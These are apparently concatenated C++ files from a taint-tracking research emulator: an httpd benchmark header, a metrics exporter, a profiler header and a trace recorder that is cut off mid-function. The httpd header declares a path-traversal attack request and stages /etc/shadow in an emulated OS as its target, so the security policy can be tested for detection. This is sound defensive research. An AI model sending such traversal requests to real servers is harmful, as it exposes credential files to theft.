namespace shift::workloads
{

/** Configuration of one server measurement. */
struct HttpdConfig
{
    TrackingMode mode = TrackingMode::None;
    Granularity granularity = Granularity::Byte;
    CpuFeatures features;
    ExecEngine engine = ExecEngine::Predecoded;
    OptimizerOptions optimize;     ///< post-instrumentation optimizer
    bool fastPath = false;         ///< taint-clean fast tier (FAST-PATH.md)
    dift::AsyncTaintOptions async; ///< decoupled tier (ASYNC-TAINT.md)
    bool jit = false;              ///< native tier (JIT.md)
    uint32_t jitThreshold = 0;     ///< promotion threshold, 0 = default
    bool jitBackground = false;    ///< compile on a worker thread
    bool jitLazy = false;          ///< per-superblock lazy compilation
    /**
     * Mark request bytes tainted as they arrive (policy.taintNetwork).
     * Off models the paper's figure-6 regime — a trusted/benign client
     * mix where the server code never touches tainted data — which is
     * the scenario the fast tier's floors are measured on.
     */
    bool taintRequests = true;
    uint64_t fileSize = 4 * 1024;  ///< served file size in bytes
    int requests = 50;             ///< number of requests to serve
};

/** Measured result. */
struct HttpdRun
{
    RunResult result;
    uint64_t requestsServed = 0;
    uint64_t totalCycles = 0;
    double latencyCycles = 0;      ///< cycles per request
    double throughput = 0;         ///< requests per giga-cycle
    bool responsesOk = false;      ///< every response carried the file
    /** Host seconds inside Machine::run() alone (see SpecRun). */
    double runSeconds = 0;
};

/** The MiniC source of the server (exposed for tests/examples). */
extern const char *const kHttpdSource;

/** The ab-style request every benign connection carries. */
extern const char *const kHttpdRequest;

/** A path-traversal request that escapes the doc root (H2 fires). */
extern const char *const kHttpdAttackRequest;

/** Session options for the httpd workload (tracking + server policy). */
SessionOptions httpdSessionOptions(TrackingMode mode,
                                   Granularity granularity,
                                   CpuFeatures features, ExecEngine engine);

/** Deterministic content of the served /www/data.bin file. */
std::string httpdFileBody(uint64_t fileSize);

/**
 * Provision an OS for serving: server-realistic I/O costs, the data
 * file, and /etc/shadow as the traversal target. Used for both a
 * Session's OS and a SessionTemplate's prototype OS.
 */
void provisionHttpdOs(Os &os, uint64_t fileSize);

/** Run the server against `config.requests` queued connections. */
HttpdRun runHttpd(const HttpdConfig &config);

// ----- fleet driver (compile once, serve from many clones) --------------

/** Configuration of one fleet measurement. */
struct HttpdFleetConfig
{
    TrackingMode mode = TrackingMode::Shift;
    Granularity granularity = Granularity::Byte;
    CpuFeatures features;
    ExecEngine engine = ExecEngine::Predecoded;
    OptimizerOptions optimize;     ///< post-instrumentation optimizer
    bool fastPath = false;         ///< taint-clean fast tier (FAST-PATH.md)
    dift::AsyncTaintOptions async; ///< per-clone rings (ASYNC-TAINT.md)
    bool profile = false;          ///< per-clone tier-attribution tables
    uint64_t fileSize = 4 * 1024;
    int jobs = 8;            ///< clones forked (one per job)
    int requestsPerJob = 4;  ///< connections each clone serves
    unsigned workers = 4;    ///< fleet worker threads
    size_t queueCapacity = 0;
    /** The last `attackJobs` jobs end with a traversal attack. */
    int attackJobs = 0;
};

/** Measured fleet result. */
struct HttpdFleetRun
{
    svc::FleetReport report;
    bool responsesOk = false; ///< every benign response carried the file
    double buildSeconds = 0;  ///< compile+instrument+snapshot (once)
    double serveSeconds = 0;  ///< host time inside Fleet::serve
};

/** Compile/instrument once and provision the prototype OS. */
std::unique_ptr<SessionTemplate>
makeHttpdTemplate(const HttpdFleetConfig &config);

/**
 * The job list a fleet measurement serves — exposed so tests and the
 * bench harness can replay the byte-identical workload through
 * sequential single-use Sessions.
 */
std::vector<svc::FleetJob> httpdFleetJobs(const HttpdFleetConfig &config);

/** Serve the job list through a Fleet of `config.workers` workers. */
HttpdFleetRun runHttpdFleet(const HttpdFleetConfig &config);

} // namespace shift::workloads

#endif // SHIFT_WORKLOADS_HTTPD_HH
