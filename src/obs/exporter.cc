#include "exporter.hh"

#include <chrono>
#include <cstdio>
#include <fstream>
#include <sstream>

#include "support/logging.hh"

namespace shift::obs
{

namespace
{

/** Prometheus metric-name charset: [a-zA-Z_:][a-zA-Z0-9_:]*. */
std::string
promName(const std::string &name)
{
    std::string out = "shift_";
    for (char c : name) {
        bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                  (c >= '0' && c <= '9') || c == '_';
        out.push_back(ok ? c : '_');
    }
    return out;
}

std::string
promLabelEscape(const std::string &s)
{
    std::string out;
    for (char c : s) {
        if (c == '\\' || c == '"')
            out.push_back('\\');
        if (c == '\n') {
            out += "\\n";
            continue;
        }
        out.push_back(c);
    }
    return out;
}

/**
 * Split an attribution metric name into its family and site labels.
 * Two shapes exist: the site as the last segment
 * ("fastpath.deopts.main@12") and the site embedded before a unit
 * suffix ("prof.site.interp-slow.main@12.nanos"); in the latter case
 * the suffix rejoins the family ("prof.site.interp-slow.nanos") so
 * one bounded family carries every site as {function=...,pc=...}
 * labels instead of an unbounded metric-name space. Returns false
 * for plain metrics.
 */
bool
splitSite(const std::string &name, std::string &family,
          std::string &function, std::string &pc)
{
    size_t at = name.find('@');
    if (at == std::string::npos || at + 1 >= name.size())
        return false;
    size_t dot = name.rfind('.', at);
    if (dot == std::string::npos)
        return false;
    size_t end = at + 1;
    while (end < name.size() &&
           name[end] >= '0' && name[end] <= '9')
        ++end;
    if (end == at + 1)
        return false;
    family = name.substr(0, dot);
    if (end < name.size()) {
        // A unit suffix must follow the pc as its own segment.
        if (name[end] != '.')
            return false;
        family += name.substr(end);
    }
    function = name.substr(dot + 1, at - dot - 1);
    pc = name.substr(at + 1, end - at - 1);
    return true;
}

/** The {function=...,pc=...} label set for a sited metric. */
std::string
siteLabels(const std::string &function, const std::string &pc)
{
    return "function=\"" + promLabelEscape(function) + "\",pc=\"" + pc +
           "\"";
}

std::string
jsonEscape(const std::string &s)
{
    std::string out;
    for (char c : s) {
        switch (c) {
          case '"': out += "\\\""; break;
          case '\\': out += "\\\\"; break;
          case '\n': out += "\\n"; break;
          case '\t': out += "\\t"; break;
          default:
            if (static_cast<unsigned char>(c) < 0x20) {
                char buf[8];
                std::snprintf(buf, sizeof(buf), "\\u%04x", c);
                out += buf;
            } else {
                out.push_back(c);
            }
        }
    }
    return out;
}

} // namespace

std::string
renderPrometheus(const StatSet &stats)
{
    std::ostringstream ss;

    // Counters. Attribution sites become one labelled family; the
    // sorted map order keeps a family's samples contiguous, so one
    // TYPE line per family suffices.
    std::string lastFamily;
    stats.forEach([&](const std::string &name, uint64_t value) {
        std::string family;
        std::string function;
        std::string pc;
        bool sited = splitSite(name, family, function, pc);
        if (!sited)
            family = name;
        std::string metric = promName(family);
        if (metric.size() < 6 ||
            metric.compare(metric.size() - 6, 6, "_total") != 0)
            metric += "_total";
        if (family != lastFamily) {
            ss << "# TYPE " << metric << " counter\n";
            lastFamily = family;
        }
        ss << metric;
        if (sited)
            ss << "{" << siteLabels(function, pc) << "}";
        ss << " " << value << "\n";
    });

    lastFamily.clear();
    stats.forEachGauge([&](const std::string &name, uint64_t value) {
        std::string family;
        std::string function;
        std::string pc;
        bool sited = splitSite(name, family, function, pc);
        if (!sited)
            family = name;
        std::string metric = promName(family);
        if (family != lastFamily) {
            ss << "# TYPE " << metric << " gauge\n";
            lastFamily = family;
        }
        ss << metric;
        if (sited)
            ss << "{" << siteLabels(function, pc) << "}";
        ss << " " << value << "\n";
    });

    lastFamily.clear();
    stats.forEachHistogram([&](const std::string &name,
                               const Histogram &h) {
        std::string family;
        std::string function;
        std::string pc;
        bool sited = splitSite(name, family, function, pc);
        if (!sited)
            family = name;
        std::string metric = promName(family);
        std::string labels = sited ? siteLabels(function, pc) : "";
        if (family != lastFamily) {
            ss << "# TYPE " << metric << " histogram\n";
            lastFamily = family;
        }
        unsigned top = 0;
        for (unsigned i = 0; i < Histogram::kBuckets; ++i)
            if (h.buckets()[i])
                top = i;
        uint64_t cumulative = 0;
        for (unsigned i = 0; i <= top; ++i) {
            cumulative += h.buckets()[i];
            ss << metric << "_bucket{" << labels
               << (labels.empty() ? "" : ",") << "le=\""
               << Histogram::bucketHigh(i) << "\"} " << cumulative
               << "\n";
        }
        ss << metric << "_bucket{" << labels
           << (labels.empty() ? "" : ",") << "le=\"+Inf\"} " << h.count()
           << "\n";
        ss << metric << "_sum";
        if (sited)
            ss << "{" << labels << "}";
        ss << " " << h.sum() << "\n";
        ss << metric << "_count";
        if (sited)
            ss << "{" << labels << "}";
        ss << " " << h.count() << "\n";
    });

    return ss.str();
}

std::string
renderJsonStats(const StatSet &stats, int indent)
{
    std::string pad(static_cast<size_t>(indent), ' ');
    std::ostringstream ss;
    ss << pad << "{\n";

    ss << pad << "  \"counters\": {";
    bool first = true;
    stats.forEach([&](const std::string &name, uint64_t value) {
        ss << (first ? "\n" : ",\n") << pad << "    \""
           << jsonEscape(name) << "\": " << value;
        first = false;
    });
    ss << (first ? "" : "\n" + pad + "  ") << "},\n";

    ss << pad << "  \"gauges\": {";
    first = true;
    stats.forEachGauge([&](const std::string &name, uint64_t value) {
        ss << (first ? "\n" : ",\n") << pad << "    \""
           << jsonEscape(name) << "\": " << value;
        first = false;
    });
    ss << (first ? "" : "\n" + pad + "  ") << "},\n";

    ss << pad << "  \"histograms\": {";
    first = true;
    stats.forEachHistogram([&](const std::string &name,
                               const Histogram &h) {
        ss << (first ? "\n" : ",\n") << pad << "    \""
           << jsonEscape(name) << "\": {\"count\": " << h.count()
           << ", \"sum\": " << h.sum() << ", \"min\": " << h.min()
           << ", \"max\": " << h.max()
           << ", \"p50\": " << h.quantile(0.50)
           << ", \"p99\": " << h.quantile(0.99) << ", \"buckets\": [";
        bool fb = true;
        for (unsigned i = 0; i < Histogram::kBuckets; ++i) {
            if (!h.buckets()[i])
                continue;
            ss << (fb ? "" : ", ") << "[" << Histogram::bucketLow(i)
               << ", " << h.buckets()[i] << "]";
            fb = false;
        }
        ss << "]}";
        first = false;
    });
    ss << (first ? "" : "\n" + pad + "  ") << "}\n";

    ss << pad << "}";
    return ss.str();
}

// ----- PeriodicExporter -------------------------------------------------

void
PeriodicExporter::start(double intervalSeconds, const std::string &sinkPath,
                        MetricsFormat format, SnapshotFn snapshot)
{
    stop();
    snapshot_ = std::move(snapshot);
    sinkPath_ = sinkPath;
    format_ = format;
    intervalSeconds_ = intervalSeconds;
    stopping_ = false;
    thread_ = std::thread([this] {
        std::unique_lock<std::mutex> lock(mutex_);
        auto interval = std::chrono::duration<double>(intervalSeconds_);
        while (!stopping_) {
            if (cv_.wait_for(lock, interval, [this] { return stopping_; }))
                break;
            lock.unlock();
            renderOnce();
            lock.lock();
        }
    });
}

void
PeriodicExporter::stop()
{
    if (!thread_.joinable())
        return;
    {
        std::lock_guard<std::mutex> lock(mutex_);
        stopping_ = true;
    }
    cv_.notify_all();
    thread_.join();
    // One final render so even a sub-interval run leaves metrics
    // behind.
    renderOnce();
}

uint64_t
PeriodicExporter::ticks() const
{
    std::lock_guard<std::mutex> lock(mutex_);
    return ticks_;
}

void
PeriodicExporter::renderOnce()
{
    if (!snapshot_)
        return;
    StatSet snap = snapshot_();
    std::string body = format_ == MetricsFormat::Prometheus
                           ? renderPrometheus(snap)
                           : renderJsonStats(snap) + "\n";
    if (sinkPath_ == "-") {
        std::fputs(body.c_str(), stderr);
    } else {
        std::ofstream out(sinkPath_, std::ios::trunc);
        if (!out) {
            SHIFT_WARN("cannot write metrics sink '%s'",
                       sinkPath_.c_str());
            return;
        }
        out << body;
    }
    std::lock_guard<std::mutex> lock(mutex_);
    ++ticks_;
}

} // namespace shift::obs
