/**
 * @file
 * Tier-attribution profiler: where did the host cycles go?
 *
 * One guest instruction can retire through any of five regimes —
 * instrumented interpreter, taint-clean fast path, JIT slow/fast
 * compiled streams, the async replay consumer — plus builtins, host
 * syscalls and the compile pipeline. The counters plane (stats.hh)
 * says *what* happened; this module says *where the host time went*,
 * tagged {tier, function, superblock pc}, so regressions like the
 * async crafty slowdown (EXPERIMENTS.md) are diagnosable in-tree
 * instead of with gprof.
 *
 * Attribution model: exhaustive interval accounting, not statistical
 * sampling alone. The profiler keeps one current context {tier, func,
 * pc} and a last-stamp; every observation attributes the elapsed
 * monotonic nanoseconds since the stamp:
 *
 *  - sample(): the interpreter's periodic tick (every kSampleEvery
 *    charged micro-ops). The elapsed interval is attributed to the
 *    *observed* site — classic sampled attribution, so per-site
 *    numbers within the interpreter tiers are estimates, while tier
 *    totals stay exact.
 *  - enter(): a tier boundary (JIT entry/exit, builtin bracket). The
 *    elapsed interval is attributed to the context being *left*.
 *  - carveSince(): an exact sub-interval measured by the caller
 *    (async event publication, sync compile). The measured span is
 *    attributed to the carved tier and the stamp advances past it, so
 *    nothing is counted twice.
 *
 * Because every nanosecond between begin() and stop() lands in
 * exactly one bucket, sum(prof.tier.*) == prof.total.nanos by
 * construction — the property the bench asserts to 1%.
 *
 * Off-thread work (the threaded async consumer, the background
 * compile worker) is measured by those components themselves and
 * exported as prof.aux.* counters; it overlaps the engine wall clock
 * and is reported separately, never folded into the engine total.
 *
 * Cost contract: mirrors the PR 5 observer plane. The profiler is a
 * separate runDecoded template instantiation (kProf); the production
 * instantiation is untouched, and a disabled profiler costs nothing
 * (enforced by the perf-smoke-prof tripwire). Tables are per-machine
 * (per-clone) and fold into StatSet counters under the stable
 * `prof.*` schema (docs/OBSERVABILITY.md), so fleet merge, the
 * Prometheus exporter and --json reports all ride the existing
 * machinery.
 */

#ifndef SHIFT_OBS_PROFILER_HH
#define SHIFT_OBS_PROFILER_HH

#include <chrono>
#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "support/stats.hh"

namespace shift::obs
{

/** Execution regimes a retired host nanosecond is attributed to. */
enum class Tier : uint8_t
{
    InterpSlow,    ///< instrumented interpreter stream
    InterpFast,    ///< taint-clean fast-path stream
    JitSlow,       ///< compiled instrumented stream
    JitFast,       ///< compiled fast stream
    AsyncPublish,  ///< source-side event construction/filter/publish
    AsyncConsumer, ///< replay consumer (inline placement)
    Compile,       ///< synchronous JIT compilation on the engine thread
    Builtin,       ///< linked built-in handlers
    Host,          ///< syscalls, run setup/teardown, everything else
    kCount,
};

/** Stable kebab-case tier tag ("interp-slow", "jit-fast", ...). */
const char *tierName(Tier tier);

/**
 * Per-machine attribution table. Owned by the engine thread; never
 * shared (each fleet clone gets its own, merged later through
 * StatSet). All methods are cheap; the expensive ones (statInto) run
 * once per session.
 */
class Profiler
{
  public:
    /** Charged micro-ops between interpreter sampling ticks. */
    static constexpr uint32_t kSampleEvery = 2048;

    /** Sites tracked before overflow folds into the tier residual. */
    static constexpr size_t kTableSize = 4096;

    /** Sites reported into the StatSet (top by nanos; rest fold
     * into the per-tier prof.other residual so sums stay exact). */
    static constexpr size_t kMaxReportedSites = 192;

    Profiler();

    /** Monotonic nanoseconds (steady_clock). */
    static uint64_t nowNanos()
    {
        return uint64_t(std::chrono::duration_cast<std::chrono::nanoseconds>(
                            std::chrono::steady_clock::now()
                                .time_since_epoch())
                            .count());
    }

    /** Start (or resume) attribution; context resets to Host. */
    void begin();

    /** Attribute the tail interval and pause. */
    void stop();

    bool running() const { return running_; }

    /**
     * Periodic interpreter tick: attribute the elapsed interval to
     * the observed site and make it current.
     */
    void
    sample(Tier tier, int32_t func, uint32_t pc)
    {
        uint64_t now = nowNanos();
        attribute(now - lastStamp_);
        lastStamp_ = now;
        curKey_ = siteKey(tier, func, pc);
        curTier_ = tier;
        ++samples_;
    }

    /**
     * Tier boundary: attribute the elapsed interval to the context
     * being left, then switch to the new one.
     */
    void
    enter(Tier tier, int32_t func, uint32_t pc)
    {
        uint64_t now = nowNanos();
        attribute(now - lastStamp_);
        lastStamp_ = now;
        curKey_ = siteKey(tier, func, pc);
        curTier_ = tier;
    }

    /**
     * Exact sub-interval: the caller stamped t0 = nowNanos() before a
     * bracketed operation (event publish, sync compile). The measured
     * span is attributed to (tier, func, pc) and the stamp advances
     * past it, so the surrounding context is never double-charged.
     */
    void
    carveSince(Tier tier, int32_t func, uint32_t pc, uint64_t t0)
    {
        uint64_t now = nowNanos();
        uint64_t dt = now >= t0 ? now - t0 : 0;
        attributeTo(siteKey(tier, func, pc), tier, dt);
        lastStamp_ += dt;
        if (lastStamp_ > now)
            lastStamp_ = now;
    }

    /** Total attributed engine-thread nanoseconds so far. */
    uint64_t totalNanos() const { return totalNanos_; }

    /** Sampling ticks taken. */
    uint64_t samples() const { return samples_; }

    /**
     * Fold the table into `prof.*` counters (see
     * docs/OBSERVABILITY.md for the stable schema). `funcName`
     * resolves a function index to its source name ("host" for -1).
     */
    void statInto(StatSet &stats,
                  const std::function<std::string(int32_t)> &funcName) const;

  private:
    struct Site
    {
        uint64_t key = 0;
        uint64_t nanos = 0;
        uint64_t samples = 0;
    };

    static uint64_t
    siteKey(Tier tier, int32_t func, uint32_t pc)
    {
        // tier:8 | func+1:24 | pc:32 — func -1 (host) maps to 0.
        return (uint64_t(tier) << 56) |
               ((uint64_t(uint32_t(func + 1)) & 0xffffffu) << 32) |
               uint64_t(pc);
    }

    void
    attribute(uint64_t dt)
    {
        attributeTo(curKey_, curTier_, dt);
    }

    void attributeTo(uint64_t key, Tier tier, uint64_t dt);

    uint64_t tierNanos_[size_t(Tier::kCount)] = {};
    /** Per-tier time whose site fell off the open-addressed table. */
    uint64_t tierOverflow_[size_t(Tier::kCount)] = {};
    std::vector<Site> table_;
    uint64_t totalNanos_ = 0;
    uint64_t wallNanos_ = 0;
    uint64_t samples_ = 0;
    uint64_t lastStamp_ = 0;
    uint64_t beginStamp_ = 0;
    uint64_t curKey_ = 0;
    Tier curTier_ = Tier::Host;
    bool running_ = false;
};

/**
 * Renderers over the merged `prof.*` stats (a single RunResult or a
 * fleet aggregate — the schema is the unit of exchange, so fleet
 * profiles render with the same code).
 */

/** Collapsed-stack flame-graph text: "shift;<tier>;<fn>@<pc> <ns>". */
std::string renderProfileCollapsed(const StatSet &stats);

/** Per-tier / per-site JSON report. */
std::string renderProfileJson(const StatSet &stats, int indent = 0);

/** Human-readable per-tier summary table (tool stderr output). */
std::string renderProfileSummary(const StatSet &stats);

/**
 * Write a profile report to `path`: collapsed stacks when the path
 * ends in .collapsed or .folded, the JSON report otherwise. Returns
 * false (with a warning) on I/O error.
 */
bool writeProfileFile(const StatSet &stats, const std::string &path);

} // namespace shift::obs

#endif // SHIFT_OBS_PROFILER_HH
