#include "trace.hh"

#include <algorithm>
#include <cstdio>
#include <fstream>
#include <ostream>
#include <sstream>

#include "support/logging.hh"

namespace shift::obs
{

// ----- taxonomy names ---------------------------------------------------

const char *
evName(Ev kind)
{
    switch (kind) {
      case Ev::PhaseBegin: return "phase.begin";
      case Ev::PhaseEnd: return "phase.end";
      case Ev::FastEnter: return "fast.enter";
      case Ev::FastDeopt: return "fast.deopt";
      case Ev::FastColdBail: return "fast.coldbail";
      case Ev::CowCopy: return "cow.copy";
      case Ev::JobFork: return "job.fork";
      case Ev::JobRunBegin: return "job.run.begin";
      case Ev::JobRunEnd: return "job.run.end";
      case Ev::JobMerge: return "job.merge";
      case Ev::PolicyCheck: return "policy.check";
      case Ev::PolicyAlert: return "policy.alert";
      case Ev::PolicyKill: return "policy.kill";
      case Ev::TaintSource: return "taint.source";
      case Ev::TaintStore: return "taint.store";
      case Ev::RingStall: return "dift.ring.stall";
      case Ev::FenceWait: return "dift.fence.wait";
      case Ev::JitCompile: return "jit.compile";
      case Ev::JitEvict: return "jit.evict";
      case Ev::kCount: break;
    }
    return "unknown";
}

bool
evTaintRelevant(Ev kind)
{
    switch (kind) {
      case Ev::TaintSource:
      case Ev::TaintStore:
      case Ev::PolicyCheck:
      case Ev::PolicyAlert:
      case Ev::PolicyKill:
        return true;
      default:
        return false;
    }
}

const char *
phaseName(Phase phase)
{
    switch (phase) {
      case Phase::Compile: return "compile";
      case Phase::Speculate: return "speculate";
      case Phase::Instrument: return "instrument";
      case Phase::Optimize: return "optimize";
      case Phase::Decode: return "decode";
      case Phase::Freeze: return "freeze";
      case Phase::Clone: return "clone";
      case Phase::Run: return "run";
      case Phase::kCount: break;
    }
    return "unknown";
}

const char *
deoptCauseName(DeoptCause cause)
{
    switch (cause) {
      case DeoptCause::ChkAddrNat: return "chk.addr-nat";
      case DeoptCause::ChkSummary: return "chk.summary";
      case DeoptCause::StAddrNat: return "st.addr-nat";
      case DeoptCause::StSummary: return "st.summary";
      case DeoptCause::StSrcTaint: return "st.src-taint";
      case DeoptCause::ClrRegNat: return "clr.reg-nat";
      case DeoptCause::kCount: break;
    }
    return "unknown";
}

uint16_t
packPolicyId(const std::string &id)
{
    if (id.empty())
        return 0;
    uint16_t hi = static_cast<unsigned char>(id[0]);
    uint16_t lo = id.size() > 1 ? static_cast<unsigned char>(id[1]) : 0;
    return static_cast<uint16_t>(hi << 8 | lo);
}

std::string
unpackPolicyId(uint16_t aux)
{
    if (aux == 0)
        return "?";
    std::string out;
    out.push_back(static_cast<char>(aux >> 8));
    if (aux & 0xff)
        out.push_back(static_cast<char>(aux & 0xff));
    return out;
}

uint16_t
packChannel(const std::string &channel)
{
    if (channel == "file")
        return 1;
    if (channel == "network")
        return 2;
    if (channel == "stdin")
        return 3;
    return 0;
}

const char *
channelName(uint16_t aux)
{
    switch (aux) {
      case 1: return "file";
      case 2: return "network";
      case 3: return "stdin";
      default: return "other";
    }
}

// ----- TraceBuffer ------------------------------------------------------

namespace
{

uint64_t
roundUpPow2(uint64_t v)
{
    uint64_t p = 64;
    while (p < v)
        p <<= 1;
    return p;
}

} // namespace

TraceBuffer::TraceBuffer(uint32_t capacity, int cloneId)
    : ring_(roundUpPow2(capacity)), mask_(ring_.size() - 1),
      cloneId_(cloneId), t0_(std::chrono::steady_clock::now())
{
}

void
TraceBuffer::emitCold(Ev kind, uint16_t aux, int32_t func, uint64_t pc,
                      uint64_t a, uint64_t b)
{
    emit(kind, aux, func, pc, a, b);
}

uint64_t
TraceBuffer::nowNanos() const
{
    return static_cast<uint64_t>(
        std::chrono::duration_cast<std::chrono::nanoseconds>(
            std::chrono::steady_clock::now() - t0_)
            .count());
}

void
TraceBuffer::forEach(const std::function<void(const TraceEvent &)> &fn) const
{
    uint64_t cap = mask_ + 1;
    uint64_t first = head_ > cap ? head_ - cap : 0;
    for (uint64_t i = first; i < head_; ++i)
        fn(ring_[i & mask_]);
}

std::vector<TraceEvent>
TraceBuffer::taintChain(size_t maxEvents) const
{
    std::vector<TraceEvent> chain;
    forEach([&](const TraceEvent &e) {
        if (evTaintRelevant(static_cast<Ev>(e.kind)))
            chain.push_back(e);
    });
    if (chain.size() > maxEvents) {
        // Keep the last-N window, but never evict the most recent
        // TaintSource: a chain that names the propagating stores and
        // the failing check without the syscall that let the bytes in
        // answers the wrong question.
        std::vector<TraceEvent> kept(
            chain.end() - static_cast<ptrdiff_t>(maxEvents),
            chain.end());
        if (kept.front().kind != static_cast<uint16_t>(Ev::TaintSource)) {
            for (auto it = chain.rbegin(); it != chain.rend(); ++it) {
                if (it->kind == static_cast<uint16_t>(Ev::TaintSource)) {
                    if (it->ts < kept.front().ts)
                        kept.insert(kept.begin(), *it);
                    break;
                }
            }
        }
        chain = std::move(kept);
    }
    return chain;
}

// ----- Recorder ---------------------------------------------------------

std::atomic<Recorder *> Recorder::activePtr_{nullptr};

namespace
{

/**
 * Epoch guard for the per-thread buffer cache: bumping it on every
 * enable()/disable() invalidates cached TraceBuffer pointers even if
 * a new recorder lands at the same address.
 */
std::atomic<uint64_t> recorderEpoch{0};

Recorder *&
ownedRecorder()
{
    static Recorder *owned = nullptr;
    return owned;
}

std::mutex &
lifecycleMutex()
{
    static std::mutex m;
    return m;
}

} // namespace

Recorder::Recorder(const RecorderOptions &options)
    : options_(options), t0_(std::chrono::steady_clock::now())
{
}

Recorder *
Recorder::enable(const RecorderOptions &options)
{
    std::lock_guard<std::mutex> lock(lifecycleMutex());
    activePtr_.store(nullptr, std::memory_order_release);
    delete ownedRecorder();
    ownedRecorder() = new Recorder(options);
    recorderEpoch.fetch_add(1, std::memory_order_acq_rel);
    activePtr_.store(ownedRecorder(), std::memory_order_release);
    return ownedRecorder();
}

void
Recorder::disable()
{
    std::lock_guard<std::mutex> lock(lifecycleMutex());
    activePtr_.store(nullptr, std::memory_order_release);
    recorderEpoch.fetch_add(1, std::memory_order_acq_rel);
    delete ownedRecorder();
    ownedRecorder() = nullptr;
}

TraceBuffer *
Recorder::acquireBuffer(int cloneId)
{
    std::lock_guard<std::mutex> lock(mutex_);
    buffers_.push_back(
        std::make_unique<TraceBuffer>(options_.ringEvents, cloneId));
    buffers_.back()->t0_ = t0_;
    return buffers_.back().get();
}

TraceBuffer *
Recorder::threadBuffer()
{
    thread_local uint64_t cachedEpoch = ~uint64_t(0);
    thread_local TraceBuffer *cached = nullptr;
    uint64_t epoch = recorderEpoch.load(std::memory_order_acquire);
    if (cachedEpoch != epoch || cached == nullptr) {
        cached = acquireBuffer(logCloneTag());
        cachedEpoch = epoch;
    }
    return cached;
}

void
Recorder::setFunctionNames(std::vector<std::string> names)
{
    std::lock_guard<std::mutex> lock(mutex_);
    functionNames_ = std::move(names);
}

std::string
Recorder::functionName(int32_t func) const
{
    if (func < 0)
        return "";
    std::lock_guard<std::mutex> lock(mutex_);
    if (static_cast<size_t>(func) < functionNames_.size())
        return functionNames_[static_cast<size_t>(func)];
    return "f" + std::to_string(func);
}

void
Recorder::statInto(StatSet &stats) const
{
    std::lock_guard<std::mutex> lock(mutex_);
    stats.setGauge("obs.buffers", buffers_.size());
    uint64_t events = 0;
    uint64_t dropped = 0;
    for (const auto &b : buffers_) {
        events += b->emitted();
        dropped += b->dropped();
    }
    stats.add("obs.events", events);
    stats.add("obs.dropped", dropped);
}

// ----- Chrome trace_event JSON drain ------------------------------------

namespace
{

std::string
jsonEscape(const std::string &s)
{
    std::string out;
    out.reserve(s.size());
    for (char c : s) {
        switch (c) {
          case '"': out += "\\\""; break;
          case '\\': out += "\\\\"; break;
          case '\n': out += "\\n"; break;
          case '\t': out += "\\t"; break;
          default:
            if (static_cast<unsigned char>(c) < 0x20) {
                char buf[8];
                std::snprintf(buf, sizeof(buf), "\\u%04x", c);
                out += buf;
            } else {
                out.push_back(c);
            }
        }
    }
    return out;
}

struct DrainedEvent
{
    TraceEvent e;
    int tid;
    size_t seq;
};

using FuncNameFn = std::function<std::string(int32_t)>;

/** One-line human summary of an event (provenance + reports). */
std::string
summarize(const TraceEvent &e, const FuncNameFn &funcName)
{
    Ev kind = static_cast<Ev>(e.kind);
    std::ostringstream ss;
    ss << evName(kind);
    std::string fn = funcName(e.func);
    if (!fn.empty())
        ss << " " << fn << "@" << e.pc;
    switch (kind) {
      case Ev::FastDeopt:
        ss << " cause=" << deoptCauseName(static_cast<DeoptCause>(e.aux));
        break;
      case Ev::CowCopy:
        ss << " addr=0x" << std::hex << e.a << std::dec;
        break;
      case Ev::JobFork:
      case Ev::JobRunBegin:
      case Ev::JobMerge:
        ss << " job=" << e.a;
        break;
      case Ev::JobRunEnd:
        ss << " job=" << e.a << " cycles=" << e.b;
        break;
      case Ev::PolicyCheck:
        ss << " policy=" << unpackPolicyId(e.aux) << " addr=0x" << std::hex
           << e.a << std::dec;
        break;
      case Ev::PolicyAlert:
      case Ev::PolicyKill:
        ss << " policy=" << unpackPolicyId(e.aux);
        break;
      case Ev::TaintSource:
        ss << " channel=" << channelName(e.aux) << " addr=0x" << std::hex
           << e.a << std::dec << " len=" << e.b;
        break;
      case Ev::TaintStore:
        ss << " addr=0x" << std::hex << e.a << std::dec;
        break;
      case Ev::RingStall:
        ss << " capacity=" << e.a << " spins=" << e.b;
        break;
      case Ev::FenceWait:
        ss << " lag=" << e.a << " waitNs=" << e.b;
        break;
      case Ev::JitCompile:
        ss << " bytes=" << e.a << " compileNs=" << e.b;
        break;
      case Ev::JitEvict:
        ss << " flushedBytes=" << e.a << " liveAfter=" << e.b;
        break;
      default:
        break;
    }
    return ss.str();
}

} // namespace

/** How many chain events a policy-kill verdict carries. */
static constexpr size_t kProvenanceDepth = 16;

void
Recorder::writeChromeJson(std::ostream &os) const
{
    std::lock_guard<std::mutex> lock(mutex_);

    // Flatten all rings, remembering which buffer (= trace thread)
    // each event came from.
    std::vector<DrainedEvent> all;
    // Per-buffer retained events in order, for provenance scans.
    std::vector<std::vector<TraceEvent>> perBuffer(buffers_.size());
    for (size_t bi = 0; bi < buffers_.size(); ++bi) {
        buffers_[bi]->forEach([&](const TraceEvent &e) {
            perBuffer[bi].push_back(e);
        });
        for (const TraceEvent &e : perBuffer[bi])
            all.push_back({e, static_cast<int>(bi) + 1, all.size()});
    }
    std::stable_sort(all.begin(), all.end(),
                     [](const DrainedEvent &x, const DrainedEvent &y) {
                         if (x.e.ts != y.e.ts)
                             return x.e.ts < y.e.ts;
                         return x.seq < y.seq;
                     });

    auto funcName = [&](int32_t func) -> std::string {
        if (func < 0)
            return "";
        if (static_cast<size_t>(func) < functionNames_.size())
            return functionNames_[static_cast<size_t>(func)];
        return "f" + std::to_string(func);
    };

    os << "{\"traceEvents\":[\n";
    bool first = true;
    auto sep = [&] {
        if (!first)
            os << ",\n";
        first = false;
    };

    // Thread-name metadata so Perfetto labels each ring.
    sep();
    os << R"({"name":"process_name","ph":"M","pid":1,"args":{"name":"shift"}})";
    for (size_t bi = 0; bi < buffers_.size(); ++bi) {
        int clone = buffers_[bi]->cloneId();
        std::string label = clone >= 0 ? "clone " + std::to_string(clone)
                                       : "host-" + std::to_string(bi);
        sep();
        os << R"({"name":"thread_name","ph":"M","pid":1,"tid":)" << bi + 1
           << R"(,"args":{"name":")" << jsonEscape(label) << R"("}})";
    }

    for (const DrainedEvent &de : all) {
        const TraceEvent &e = de.e;
        Ev kind = static_cast<Ev>(e.kind);
        double ts = double(e.ts) / 1000.0; // Chrome wants microseconds
        sep();
        if (kind == Ev::PhaseBegin || kind == Ev::PhaseEnd) {
            os << "{\"name\":\""
